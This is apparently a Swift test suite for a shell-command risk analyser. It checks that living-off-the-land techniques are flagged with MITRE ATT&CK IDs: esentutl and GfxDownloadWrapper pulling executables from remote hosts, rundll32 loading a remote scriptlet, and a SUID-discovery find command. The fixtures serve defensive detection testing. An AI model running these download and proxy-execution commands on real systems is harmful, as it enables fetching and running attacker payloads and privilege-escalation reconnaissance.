import ShellAnalysis
import Testing

/// Trusted programs made to fetch or run what they were not meant to, and the discovery that
/// usually comes first.
@Suite struct LivingOffTheLandTests {
    static let cases: [(evasion: String, command: String, dialect: ShellDialect, atLeast: RiskLevel, technique: String)] = [
        ("a URL handed to a Windows program that is not a downloader", #"esentutl.exe /y \\live.sysinternals.com\tools\procdump.exe /d C:\Temp\p.exe /o"#, .cmd, .high, "T1105"),
        ("an http URL to an unknown signed binary", "GfxDownloadWrapper.exe \"https://203.0.113.9/a.exe\" C:\\Temp\\a.exe", .cmd, .high, "T1105"),
        ("javascript: through rundll32", #"rundll32.exe javascript:"\..\mshtml,RunHTMLApplication ";document.write();GetObject("script:https://203.0.113.9/r.sct")"#, .cmd, .critical, "T1218"),
        ("SUID discovery", "find / -perm -4000 -type f 2>/dev/null", .sh, .medium, "T1548.001"),
    ]

    @Test(arguments: cases.indices)
    func caught(_ i: Int) throws {
        let c = Self.cases[i]
        let a = try Analyser.bundled().get().analyse(c.command, dialect: c.dialect)
        #expect(a.risk >= c.atLeast, "\(c.evasion): \(a.risk) \(a.summary)")
        #expect(a.techniques.contains(c.technique), "\(c.evasion): \(a.techniques)")
    }

    @Test func everydayWindowsWorkIsNotFlagged() throws {
        let analyser = try Analyser.bundled().get()
        for command in ["ipconfig /all", "dir C:\\Temp", "ping 203.0.113.9"] {
            let a = analyser.analyse(command, dialect: .cmd)
            #expect(!a.techniques.contains("T1105"), "`\(command)` flagged as a download")
        }
    }
}
